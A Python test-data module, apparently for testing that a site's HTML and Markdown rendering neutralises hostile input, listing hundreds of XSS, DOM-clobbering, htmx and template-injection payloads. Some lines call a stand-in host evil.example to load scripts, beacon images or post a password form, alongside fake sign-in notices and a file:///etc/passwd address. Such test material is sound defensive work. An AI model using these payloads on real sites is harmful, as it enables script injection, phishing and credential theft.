"""Texts that try to run a script, load something, or dress up as a part of our pages (T050, T052).

``PAYLOADS`` is built from written-out texts and from a few dozen carriers times the addresses that they carry.
"""

SCRIPT_ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "&#x6A;&#x61;vascript:alert(1)", "\x01javascript:alert(1)",
    "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
    "feed:javascript:alert(1)", "jar:javascript:alert(1)", "blob:https://x/1", "file:///etc/passwd", "view-source:javascript:alert(1)",
    "javascript://%0aalert(1)", "j%61vascript:alert(1)", "//evil.example/x", "/sign-out/", "/\\evil.example",
]  # fmt: skip

MARKDOWN_CARRIERS = [
    "[click]({0})", "[click](<{0}>)", "![x]({0})", "[click][r]\n\n[r]: {0}", "<{0}>", '[click]({0} "title\' onmouseover=alert(1)")',
]  # fmt: skip

HTML = [
    "<script>alert(1)</script>", "<ScRiPt >alert(1)</ScRiPt>", "<script/src=data:,alert(1)>", "<script src=//evil.example/x.js></script>",
    "<<script>alert(1)//<</script>", "<script\n>alert(1)</script\n>", "</script><script>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script type=module>import('//evil.example')</script>", "<script>\u2028alert(1)</script>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<img src=x onerror=alert(1)>", "<img/src='x'/onerror='alert(1)'>", '<img src="x" onerror="alert(1)"//>', "<img src=x:x onerror\n=alert(1)>",
    "<img src=`x` onerror=alert(1)>", "<img src=x onerror=&#97;lert(1)>", "<IMG SRC=javascript:alert(1)>", "<img src=https://evil.example/beacon.png>",
    "<img srcset='x 1x' onerror=alert(1)>", "<image src=x onerror=alert(1)>", "<picture><source srcset=x><img onerror=alert(1) src=x></picture>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><script href='data:,alert(1)'/>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)>", "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>", "<math href='javascript:alert(1)'>x</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe onload=alert(1)>",
    "<object data=javascript:alert(1)>", "<object type=text/html data='data:text/html,<script>alert(1)</script>'>", "<embed src=javascript:alert(1)>",
    "<applet code=x>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=import href=data:,x>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<style>@import '//evil.example/x.css'</style>", "<style>*{background:url(javascript:alert(1))}</style>", "<p style='background:url(//evil.example/b)'>x</p>",
    "<div style=position:fixed;inset:0>cover</div>", "<div style='x:expression(alert(1))'>", "<xss style='behavior:url(x.htc)'>",
    "<body onload=alert(1)>", "<body background=javascript:alert(1)>", "<html onmouseover=alert(1)>", "<frameset onload=alert(1)>",
    "<video><source onerror=alert(1)></video>", "<video src=x onerror=alert(1)>", "<audio src onloadstart=alert(1)>", "<video poster=javascript:alert(1)//>",
    "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
    "<button onclick=alert(1)>Save</button>", "<button formaction=javascript:alert(1)>x</button>", "<form action=javascript:alert(1)><input type=submit>",
    "<form action=https://evil.example/><input name=password>", "<isindex action=javascript:alert(1) type=image>", "<marquee onstart=alert(1)>x</marquee>",
    "<keygen autofocus onfocus=alert(1)>", "<a href=javascript:alert(1)>x</a>", "<a href='\x01javascript:alert(1)'>x</a>", "<a onclick=alert(1)>x</a>",
    "<a target=_blank href=https://evil.example>x</a>", "<a href='https://evil.example' ping='https://evil.example/p'>x</a>", "<area href=javascript:alert(1)>",
    "<template><script>alert(1)</script></template>", "<slot onslotchange=alert(1)>", "<dialog open>Sign in again</dialog>", "<x onclick=alert(1) tabindex=1>x</x>",
    "<p onpointerenter=alert(1)>x</p>", "<p/onmouseover=alert(1)>x", "<a\x0bhref=javascript:alert(1)>x", "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)> -->", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?><script>alert(1)</script>", "<!DOCTYPE x [<!ENTITY y 'z'>]>",
    "<plaintext><script>alert(1)</script>", "<xmp><script>alert(1)</script></xmp>", "<listing>&lt;script&gt;alert(1)&lt;/script&gt;</listing>",
    "<title><script>alert(1)</script></title>", "<textarea></textarea><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>", "\" onfocus=alert(1) autofocus x=\"", "`-alert(1)-`", "{{constructor.constructor('alert(1)')()}}",
    "{% load x %}{{ request.user.password }}", "${alert(1)}", "#{7*7}", "<%= 7*7 %>", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "<img src=x on\u200berror=alert(1)>", "<\u202escript>alert(1)</script>",
]  # fmt: skip

CLOBBERING = [
    "<a id=htmx>x</a>", "<form id=document><input name=cookie></form>", "<img name=getElementById>", "<a id=x><a id=x name=y href=javascript:alert(1)>",
    "<div id=main>fake</div>", "<div id=problem>fake</div>", "<div id=toasts>fake</div>", "<form name=body><input name=firstChild>", "# heading {#main}",
    "<p class='notice is-bad'>Your session ended. <a class='button is-primary' href='https://evil.example'>Sign in</a></p>", "[x]{.button onclick=alert(1)}",
]  # fmt: skip

HTMX = [
    "<div hx-get=/sign-out/ hx-trigger=load>x</div>", "<div data-hx-post=/sign-out/ data-hx-trigger=load>x</div>", "<p hx-on:click=alert(1)>x</p>",
    "<p hx-on::load=alert(1)>x</p>", "<p data-hx-on--load=alert(1)>x</p>", "<div hx-vals='js:{x: alert(1)}'>", "<div hx-disable=false hx-get=/account/>",
    "<p hx-swap-oob=true id=main>gone</p>", "<p _='on load call alert(1)'>x</p>", "<div hx-ext=x hx-ws=x>", "<a data-confirm=x data-opens=confirm>x</a>",
    "<span data-tex='\\href{javascript:alert(1)}{x}' class=math>x</span>", "<figure data-chart=toasts>x</figure>",
]  # fmt: skip

MARKDOWN = [
    "```<script>alert(1)</script>\nx\n```", "```\"onload=alert(1)\nx\n```", "```html\n<script>alert(1)</script>\n```", "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>", "~~~js onmouseover=alert(1)\nalert(1)\n~~~", "| <script>alert(1)</script> | b |\n|--|--|\n| <img src=x onerror=alert(1)> | b |",
    "|a|\n|:-:\" onclick=alert(1)|\n|b|", "$<script>alert(1)</script>$", "$$\\href{javascript:alert(1)}{x}$$", "\\(\\htmlData{x=1}{y}\\)", "$\" onclick=alert(1) x=\"$",
    "$$\\includegraphics{https://evil.example/x}$$", "> <script>alert(1)</script>", "1. <img src=x onerror=alert(1)>", "[a](https://ok.example\"onclick=alert(1))",
    "[a](<https://ok.example\"onclick=alert(1)>)", "[<img src=x onerror=alert(1)>](https://ok.example)", "![<b onclick=alert(1)>](https://ok.example/x.png)",
    "![x](https://evil.example/beacon.png \"<script>\")", "[a]: https://ok.example \"\\\" onclick=alert(1)\"\n\n[a]", "<https://ok.example/\"onclick=alert(1)>",
    "<a@b.example\"onclick=alert(1)>", "<javascript:alert(1)@x.example>", "[x](mailto:a@b.example?subject=<script>)", "**<script>**alert(1)**</script>**", "~~<svg onload=alert(1)>~~",
    "\\<script>alert(1)\\</script>", "a\\\n<script>alert(1)</script>", "# <script>alert(1)</script>", "<script>alert(1)</script>\n===", "- [ ] <img src=x onerror=alert(1)>",
    "[^1]\n\n[^1]: <script>alert(1)</script>", "&lt;img src=x onerror=alert(1)&gt;", "&amp;lt;script&amp;gt;",
]  # fmt: skip

PAYLOADS = [
    *HTML,
    *CLOBBERING,
    *HTMX,
    *MARKDOWN,
    *(carrier.format(address) for carrier in MARKDOWN_CARRIERS for address in SCRIPT_ADDRESSES),
]
